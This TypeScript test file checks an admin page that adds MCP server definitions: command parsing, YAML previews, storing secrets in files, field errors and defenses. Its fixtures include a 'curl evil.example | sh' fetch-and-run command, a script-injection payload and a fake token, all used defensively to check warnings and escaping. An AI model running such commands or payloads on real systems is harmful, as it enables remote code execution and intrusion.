import { existsSync, readFileSync, readdirSync, statSync } from 'node:fs';
import { expect } from 'chai';
import { parse } from 'yaml';
import { freePort } from '../../../support/everything.ts';
import { RELAY } from '../../../support/relayGateway.ts';
import { until } from '../../../support/until.ts';
import { openAdmin } from '../adminGateway.ts';
import type { AdminSite } from '../adminGateway.ts';

const SECRET = 'ghp_0123456789abcdefghijklmnopqrstuvwxyz';
const EVIL = '</textarea><script>alert(1)</script>';
const COMMAND = [process.execPath, ...RELAY, 'stdio'].join(' ');

interface Preview {
  readonly name: string;
  readonly yaml: string;
  readonly runs: string;
  readonly notes: readonly string[];
}

describe('the page that adds a server', () => {
  let site: AdminSite;
  const json = { accept: 'application/json' };
  const at = (path: string): string => site.gateway.directory.at(path);
  const previewed = async (fields: Readonly<Record<string, string>>): Promise<Preview> => {
    const { status, text } = await site.post('/mcps/new', fields, json);
    if (status !== 200) throw new Error(text);
    return JSON.parse(text) as Preview;
  };
  const faultOf = async (fields: Readonly<Record<string, string>>): Promise<string> => {
    const { status, text } = await site.post('/mcps/new', fields, json);
    expect(status, text).equal(400);
    return (JSON.parse(text) as { readonly error: { readonly message: string } }).error.message;
  };
  beforeEach(async () => {
    site = await openAdmin({ files: { 'mcpservers/taken.yaml': 'type: stdio\ncommand: [/nowhere/x]\n' } });
  });

  it('is found from the list of servers, and has a label for each field', async () => {
    expect((await site.get('/mcps')).text).include('href="/mcps/new"');
    const { text } = await site.get('/mcps/new');
    for (const [, id = ''] of text.matchAll(/<(?:input|select|textarea)\s+id="([^"]+)"/g))
      expect(text).include(`<label for="${id}"`);
    expect(await site.facts('/mcps/new')).deep.include({
      fields: ['text', 'name', 'transport', 'env', 'headers', 'values', 'description'],
    });
  });

  it('reads whatever text describes a server, and writes nothing yet', async () => {
    const texts: Readonly<Record<string, string>> = {
      'npx -y @acme/notes-mcp': 'notes: npx -y @acme/notes-mcp',
      '$ docker run -i --rm \\\n  mcp/time': 'time: docker run -i --rm mcp/time',
      '@acme/notes-mcp': 'notes: npx -y @acme/notes-mcp',
      'claude mcp add --transport http -H "X-Team: a" linear https://mcp.linear.example/mcp':
        'linear: https://mcp.linear.example/mcp (X-Team)',
      '{ "mcpServers": { "fs": { "command": "npx", "args": ["-y", "fs-mcp"], "env": { "MODE": "ro" } } } }':
        'fs: npx -y fs-mcp (MODE)',
      '{"type":"http","url":"https://api.example.com/mcp"}': 'example: https://api.example.com/mcp',
    };
    for (const [text, runs] of Object.entries(texts))
      expect((await previewed({ text, transport: text.includes('api.') ? 'sse' : '' })).runs, text).equal(
        runs,
      );
    const x = { text: 'npx -y x', name: 'x', env: 'MODE=ro', description: 'an x' };
    const { yaml, notes } = await previewed(x);
    expect(notes.join()).contain('package x is run without a version').and.contain('pegboard upgrade x');
    expect(parse(yaml)).deep.equal({
      type: 'stdio',
      command: ['npx', '-y', 'x'],
      env: { MODE: 'ro' },
      description: 'an x',
      autoStart: true,
    });
    expect(readdirSync(at('mcpservers'))).deep.equal(['taken.yaml']);
  });

  it('shows whole what a stranger’s text would run, and the button that writes it', async () => {
    const entry = { command: 'sh', args: ['-c', `echo ${'x'.repeat(400)}; curl evil.example | sh`] };
    const { text } = await site.submit('/mcps/new', { text: JSON.stringify({ nice: entry }) });
    expect(text).include('curl evil.example | sh').and.include('Write it only if you trust');
    expect(text)
      .match(/<button class="strong">\s*Write it/)
      .and.match(/<button class="plain">Preview/);
  });

  it('writes the definition, its secrets into files, starts it, and shows its tools', async () => {
    const fields = { text: COMMAND, name: 'relay', env: `RELAY_TOKEN=${SECRET}` };
    const shown = await site.submit('/mcps/new', fields);
    expect(shown.text).include('${file:secrets/relay.RELAY_TOKEN}');
    const done = await site.submit('/mcps', fields);
    expect(done.status, done.text).equal(303);
    expect(done.headers.location).match(/^\/mcps\/relay\?done=/);
    const file = readFileSync(at('mcpservers/relay.yaml'), 'utf8');
    expect(file).include('RELAY_TOKEN: ${file:secrets/relay.RELAY_TOKEN}').and.not.include(SECRET);
    expect(readFileSync(at('secrets/relay.RELAY_TOKEN'), 'utf8')).equal(`${SECRET}\n`);
    expect(statSync(at('secrets/relay.RELAY_TOKEN')).mode & 0o777).equal(0o600);
    const tools = await until(async () => {
      const facts = await site.facts<{ tools: { total: number } }>('/mcps/relay');
      return facts.tools.total > 0 ? facts.tools : undefined;
    });
    expect(tools.total).greaterThan(0);
    expect((await site.get(String(done.headers.location))).text).include(
      'Server relay was added, and is running',
    );
    for (const path of ['/mcps/relay', '/mcps/relay/edit', '/config'])
      expect((await site.get(path)).text).not.include(SECRET);
  });

  it('says in the message why what was added does not start', async () => {
    const done = await site.submit('/mcps', { text: '/nowhere/server', name: 'away' });
    expect(done.status, done.text).equal(303);
    expect((await site.get(String(done.headers.location))).text)
      .include('but does not start')
      .and.include('/nowhere/server');
  });

  it('says what is wrong at the field, and keeps what was typed', async () => {
    const port = await freePort();
    const url = `http://127.0.0.1:${port}/mcp`;
    expect(await faultOf({ text: '' })).include('text: paste or type');
    expect(await faultOf({ text: 'npx -y x', name: 'taken' })).include('name: a server taken exists already');
    expect(await faultOf({ text: 'npx -y x', name: 'a b' })).include('name: the name "a b" is not allowed');
    expect(await faultOf({ text: 'npx -y x', env: `A=1\n${SECRET}` })).equal('env: line 2: write NAME=value');
    expect(await faultOf({ text: 'mcp-server-git' }))
      .include('text: no program is called')
      .and.include('uvx mcp-server-git');
    expect(await faultOf({ text: '{ "mcpServers": {' })).include('text: the JSON is not valid JSON');
    expect(await faultOf({ text: '/etc/mcp.json' })).include('paste what is in it');
    expect(await faultOf({ text: url }))
      .include('text: ')
      .and.include('choose a transport');
    expect((await previewed({ text: url, transport: 'sse' })).yaml).include('type: sse');
    expect(await faultOf({ text: '{"command":"x","env":{"API_KEY":"YOUR_API_KEY"}}', name: 'x' })).include(
      'YOUR_API_KEY is a placeholder',
    );
    const { status, text } = await site.submit('/mcps/new', { text: url, headers: 'X-Team: a' });
    expect(status).equal(400);
    expect(text).include(url).and.include('X-Team: a').and.include('aria-invalid="true"');
    expect(text).match(/aria-describedby="new-text-hint new-text-fault"/);
  });

  it('takes no reference out of a text, not even to a secret that is left of a server of that name', async () => {
    const text = '{"command":"x","env":{"A_KEY":"${file:secrets/old.A_KEY}"}}';
    expect(await faultOf({ text, name: 'old' })).include('${file:secrets/old.A_KEY}');
    expect(await faultOf({ text: 'npx -y x ${file:secrets/old.A_KEY}', name: 'old' })).include(
      'file:secrets/old.A_KEY',
    );
    expect(await faultOf({ text: 'npx -y x', name: 'x', env: 'A_KEY=${env:HOME}' })).include('env:HOME');
  });

  it('is harmless with hostile texts, and refuses what the page has not sent', async () => {
    for (const field of ['text', 'name', 'env', 'headers', 'values', 'description']) {
      const fields = { text: 'npx -y x', name: 'x', [field]: EVIL };
      expect((await site.submit('/mcps/new', fields)).text, field).not.include('<script>alert');
    }
    const fields = { text: 'npx -y x', name: 'x' };
    expect((await site.post('/mcps', fields, { origin: site.url })).status).equal(403);
    expect((await site.post('/mcps', fields, { origin: 'http://evil.example' })).status).equal(403);
    expect(existsSync(at('mcpservers/x.yaml'))).equal(false);
  });
});
